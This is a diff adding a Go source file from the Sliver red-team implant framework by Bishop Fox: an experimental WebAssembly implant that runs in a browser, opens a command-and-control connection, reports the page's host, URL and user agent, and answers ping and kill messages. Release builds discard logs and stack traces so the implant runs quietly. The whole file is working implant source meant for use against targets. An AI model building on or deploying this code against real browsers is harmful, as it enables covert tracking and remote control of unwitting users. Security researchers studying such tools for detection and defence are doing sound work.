@@ -0,0 +1,143 @@
+package main
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+// The js/wasm implant is an experimental HTTP(S) session that runs in a
+// browser or an edge runtime (i.e. with Go's wasm_exec.js), it only
+// implements the handlers that make sense without a real OS underneath.
+
+import (
+	"os"
+	"runtime"
+	"syscall/js"
+
+	// {{if .Debug}}{{else}}
+	"io/ioutil"
+	"runtime/debug"
+	// {{end}}
+
+	"log"
+
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+	consts "github.com/bishopfox/sliver/sliver/constants"
+	"github.com/bishopfox/sliver/sliver/transports"
+
+	"github.com/golang/protobuf/proto"
+)
+
+func main() {
+
+	// {{if .Debug}}
+	log.SetFlags(log.LstdFlags | log.Lshortfile)
+	// {{else}}
+	log.SetFlags(0)
+	log.SetOutput(ioutil.Discard)
+	debug.SetTraceback("none") // Panics exit without a stack trace
+	// {{end}}
+
+	// {{if .Debug}}
+	log.Printf("Hello my name is %s (%s/%s)", consts.SliverName, runtime.GOOS, runtime.GOARCH)
+	// {{end}}
+
+	for {
+		connection := transports.StartConnectionLoop()
+		if connection == nil {
+			break
+		}
+		mainLoop(connection)
+	}
+}
+
+func mainLoop(connection *transports.Connection) {
+
+	connection.Send <- getRegisterSliver() // Send registration information
+
+	for envelope := range connection.Recv {
+		switch envelope.Type {
+		case sliverpb.MsgPing:
+			// {{if .Debug}}
+			log.Printf("[recv] ping")
+			// {{end}}
+			connection.Send <- &sliverpb.Envelope{
+				ID:             envelope.ID,
+				Data:           envelope.Data,
+				BandwidthLimit: envelope.BandwidthLimit,
+			}
+		case sliverpb.MsgKillSessionReq:
+			// {{if .Debug}}
+			log.Printf("[recv] kill")
+			// {{end}}
+			os.Exit(0)
+		default:
+			// {{if .Debug}}
+			log.Printf("[recv] unsupported envelope type %d", envelope.Type)
+			// {{end}}
+			connection.Send <- &sliverpb.Envelope{
+				ID:                 envelope.ID,
+				Data:               nil,
+				UnknownMessageType: true,
+			}
+		}
+	}
+}
+
+func getRegisterSliver() *sliverpb.Envelope {
+	data, err := proto.Marshal(getRegister())
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("Failed to encode register msg %s", err)
+		// {{end}}
+		return nil
+	}
+	return &sliverpb.Envelope{
+		Type: sliverpb.MsgRegister,
+		Data: data,
+	}
+}
+
+// getRegister - There's no user or process to report, browsers identify
+// themselves with the user agent and page location instead
+func getRegister() *sliverpb.Register {
+	hostname := "<< unknown >>"
+	filename := "<< unknown >>"
+	version := runtime.Version()
+	if location := js.Global().Get("location"); location.Type() == js.TypeObject {
+		hostname = location.Get("host").String()
+		filename = location.Get("href").String()
+	}
+	if navigator := js.Global().Get("navigator"); navigator.Type() == js.TypeObject {
+		if userAgent := navigator.Get("userAgent"); userAgent.Type() == js.TypeString {
+			version = userAgent.String()
+		}
+	}
+	return &sliverpb.Register{
+		Name:            consts.SliverName,
+		Hostname:        hostname,
+		Username:        "<< unknown >>",
+		Uid:             "<< unknown >>",
+		Gid:             "<< unknown >>",
+		Os:              runtime.GOOS,
+		Version:         version,
+		Arch:            runtime.GOARCH,
+		Pid:             int32(os.Getpid()),
+		Filename:        filename,
+		ActiveC2:        transports.GetActiveC2(),
+		ProtocolVersion: sliverpb.ProtocolVersion,
+	}
+}